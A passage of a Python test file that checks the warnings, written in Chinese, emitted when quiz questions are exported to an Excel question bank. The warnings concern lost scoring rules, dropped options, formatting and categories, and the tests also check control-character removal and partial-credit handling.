    data, found = dump_with_warnings(questions)
    assert found == [
        "第 1 题「多选一」：多选题各选项的得分不是“选对平分、选错倒扣”的规则，"
        "已按该规则导出（正确选项 AB）",
        "第 2 题「九个选项的单选题」：选项和答案的反馈没有导出（Excel 题库没有反馈列）",
        "第 2 题「九个选项的单选题」：有 9 个选项，Excel 题库最多 8 个，后 1 个没有导出",
        "第 3 题「Case matters」：答案“C|P”含有分隔符 |，重新导入时会被拆成几个答案",
        "第 3 题「Case matters」：“区分大小写”的设置没有导出，重新导入后不区分大小写",
        "第 3 题「Case matters」：答案“cpc”的得分比例为 -50%，Excel 题库只能保存 0%～100% "
        "之间的比例，这个答案没有导出",
        "第 4 题「<p>HTML 题目</p>」：题目是 HTML 格式，Excel 中按原文保存，"
        "重新导入后标签会作为文字显示",
        "第 4 题「<p>HTML 题目</p>」：简答题的答案没有导出（Excel 中这类题的「答案」列留空）",
        "第 5 题「**加粗**的判断题」：题目中的 Markdown 格式（加粗、链接等）按原文保存，"
        "重新导入后按纯文本显示",
        "第 5 题「**加粗**的判断题」：判断题的答案不是“对”“错”两项，已按得分高的一项导出",
        "第 6 题「不支持的题型」：题型“calculated”无法写入 Excel 题库，这道题没有导出",
        "第 7 题「左项带箭头」：考点“甲,乙”含有逗号、顿号或分号，重新导入时会被拆开",
        "第 7 题「左项带箭头」：左项“a->b”含有箭头，重新导入时会在箭头处断开",
        "第 7 题「左项带箭头」：重新导入时会出错：分值：分值“200”无效，"
        "应为大于 0、不超过 100 的数，例如 2",
        "Excel 题库没有“名称”列，1 道题的名称没有导出",
        "Excel 题库没有“编号”列，1 道题的编号（idnumber）没有导出",
        "题目来自 2 个分类，Excel 题库不保存分类，重新导入时会放进同一个分类",
    ]
    assert isinstance(dump(questions), bytes)
    sheet = load_workbook(io.BytesIO(data))["题库"]
    assert sheet.max_row == 1 + 6  # the unsupported type has no row
    assert sheet["K2"].value == "AB"
    assert sheet["J3"].value == "选项7"  # the ninth option is dropped
    assert sheet["K4"].value == "CPC|50%:C|P"


def test_control_characters_are_dropped_with_a_warning():
    question = ParsedQuestion("essay", "题干\x07有响铃", text_format="plain")
    data, found = dump_with_warnings([question])
    assert parse(data)[0].text == "题干有响铃"
    assert found == ["第 1 题「题干\x07有响铃」：「题干」中的控制字符无法写入 Excel，已删除"]


def test_single_with_partial_credit_keeps_the_best_option():
    question = ParsedQuestion(
        "single",
        "部分得分的单选题",
        text_format="plain",
        answers=[ParsedAnswer("甲", Decimal("0.5")), ParsedAnswer("乙", Decimal("0.9"))],
    )
    data, found = dump_with_warnings([question])
    assert found == [
        "第 1 题「部分得分的单选题」：单选题在 Excel 中只能有一个满分选项、其余 0 分，"
        "已把得分最高的选项 B 作为答案"
    ]
    assert fractions(parse(data)[0]) == [0, 1]
